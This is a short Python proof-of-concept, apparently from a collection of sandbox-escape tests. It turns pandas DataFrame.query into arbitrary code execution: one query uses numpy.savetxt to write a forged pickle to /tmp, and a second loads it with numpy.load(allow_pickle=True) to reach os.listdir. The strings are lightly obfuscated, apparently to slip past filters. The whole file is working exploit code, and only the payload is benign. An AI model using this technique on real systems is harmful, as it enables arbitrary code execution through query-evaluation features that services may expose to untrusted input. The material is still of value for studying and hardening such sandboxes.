# source: pandas 1.5.3 expr.py BaseExprVisitor.visit_Call (keywords passed through) + numpy npyio.load pickle fallback; pickle GLOBAL opcode
# family: DataFrame.query "(@f)(..., allow_pickle=True)" keyword form; unpickling reaches os
# goal: os.listdir("/") through a forged pickle loaded by np.load called inside query()
import pandas as pd
import numpy as np
from numpy import savetxt, load
df = pd.DataFrame({"a": [1, 2, 3]})
p = chr(47) + "tmp" + chr(47) + "y"
rows = np.array(["c" + "o" + "s", "listdir", "(V" + chr(47), "tR."])
fmt = chr(37) + "s"


def show(x):
    print("loaded:", x)
    return 0


print(df.query("a > (@show)((@savetxt)(@p, @rows, @fmt))"))
print(df.query("a > (@show)((@load)(@p, allow_pickle=True))"))
